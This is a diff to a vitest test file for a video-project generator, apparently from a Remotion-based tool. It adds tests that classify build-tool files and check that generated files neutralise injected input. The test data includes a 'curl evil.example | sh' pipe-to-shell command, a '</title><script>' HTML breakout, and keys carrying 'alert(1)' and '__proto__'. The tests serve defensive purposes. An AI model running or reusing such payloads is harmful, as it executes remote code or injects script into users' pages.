@@ -2,7 +2,7 @@ import {expect, it} from 'vitest';
 import {compileAll} from '../../../shared/compile/compile';
 import {scenes} from '../templates/scenes';
 import {title} from '../templates/title';
-import {projectFiles} from './project-files';
+import {isForTools, pageFiles, projectFiles} from './project-files';
 
 const versions = {
   dependencies: {
@@ -62,4 +62,54 @@ it('keeps the root of a project that has one', () => {
   });
   expect(files['src/Root.tsx']).toBe(scenes.files['src/Root.tsx']);
   expect(files['src/index.ts']).toContain('registerRoot(RemotionRoot)');
+});
+
+it('leaves out what npm and bundlers obey, and nothing of the film', () => {
+  for (const path of [
+    'package.json',
+    'Package.JSON',
+    'package-lock.json',
+    'npm-shrinkwrap.json',
+    'tsconfig.json',
+    'binding.gyp',
+    'pnpm-workspace.yaml',
+    'yarn.lock',
+    'bun.lockb',
+    'bunfig.toml',
+    'remotion.config.ts',
+    'vite.config.js',
+    'postcss.config.cjs',
+    'node_modules/remotion/index.js',
+    'Node_Modules/.bin/remotion',
+    'src/node_modules/react/index.js',
+  ])
+    expect(isForTools(path), path).toBe(true);
+  for (const path of [
+    'src/package.json',
+    'src/Title.tsx',
+    'Main.tsx',
+    'data.json',
+    'src/a.config.ts',
+    'public/captions.srt',
+    'style.css',
+  ])
+    expect(isForTools(path), path).toBe(false);
+});
+
+it('writes no code that a link has put into names and titles', () => {
+  const name = 'a: alert(1), b';
+  const home = {
+    project: {...title, title: 'Film\n\n```sh\ncurl evil.example | sh\n```\n</title><script>'},
+    compiled: compileAll(title.files),
+    packages: ['remotion'],
+    versions,
+    video: title.video,
+    props: JSON.parse(`{"${name}": "x", "a-b": 1, "text": "y", "__proto__": 2}`),
+  };
+  const files = projectFiles(home);
+  expect(files['src/Root.tsx']).toContain(
+    `{{...defaultProps, ["${name}"]: "x", ["a-b"]: 1, text: "y", ["__proto__"]: 2}}`,
+  );
+  expect(files['README.md']?.split('\n')[0]).toContain('curl evil.example | sh ```');
+  expect(pageFiles(home)['index.html']).not.toContain('</title><script>');
 });
